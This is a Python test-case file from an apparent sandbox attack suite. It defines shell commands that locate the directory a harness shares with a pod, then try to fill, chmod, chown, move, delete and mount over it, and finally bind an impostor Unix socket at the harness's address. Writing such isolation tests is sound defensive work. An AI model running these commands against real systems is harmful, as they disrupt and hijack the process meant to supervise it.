"""Fills, opens, removes and replaces the folder that it shares with the harness, and puts one of its own in its place."""

from attack import POD_ADDRESS, Attack, python, tried

from lightning_smith.contracts.outcome import Outcome

ATTACK = Attack(
    (
        tried(
            "room=$(tr '\\0' '\\n' < /proc/1/cmdline | grep -A1 -e --listen | tail -1 | xargs dirname)\n"
            "ls $room 2>/dev/null && echo GAINED\n"
            "(head -c 1000000 /dev/zero > $room/fill) 2>/dev/null && echo GAINED\n"
            "chmod 777 $room 2>/dev/null && echo GAINED\n"
            "chown 0 $room 2>/dev/null && echo GAINED\n"
            "touch $room/socket $room/x 2>/dev/null && echo GAINED\n"
            "mv $room /tmp/room 2>/dev/null && echo GAINED\n"
            "rmdir $room 2>/dev/null && echo GAINED\n"
            "mount -t tmpfs none $room 2>/dev/null && echo GAINED\n"
            "mv $(dirname $room) /moved && mkdir -p $room\n"
            + python(
                POD_ADDRESS
                + """
import socket
socket.socket(socket.AF_UNIX).bind(address)
"""
            )
        ),
    ),
    with_fix=Outcome.SOLVED,
    kinds=("pod",),
)
